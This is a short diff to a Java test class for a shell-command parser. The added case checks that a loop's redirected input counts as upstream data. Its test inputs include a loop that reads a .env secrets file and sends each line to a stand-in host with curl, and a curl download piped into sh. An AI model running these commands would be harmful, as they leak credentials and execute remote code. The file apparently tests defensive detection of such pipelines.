@@ -103,6 +103,10 @@ class ShellParserTest {
       SimpleCommand sh = s.commands().stream().filter(c -> c.argv().equals(List.of("sh"))).findFirst().orElseThrow();
       assertThat(sh.pipeline().upstreamOf(sh)).as(cmd).extracting(SimpleCommand::toString).contains("curl -s x");
     }
+    // a loop's input file is what its condition and body read
+    Script loop = parse("while read l; do curl -s x/$l; done < .env");
+    SimpleCommand read = loop.commands().get(0);
+    assertThat(read.pipeline().upstreamOf(read)).extracting(SimpleCommand::toString).containsExactly("cat .env");
     // not piped on: the group's commands stay out of the next pipeline
     Script s = parse("{ curl -s x; }; sh");
     SimpleCommand sh = s.commands().get(s.commands().size() - 1);
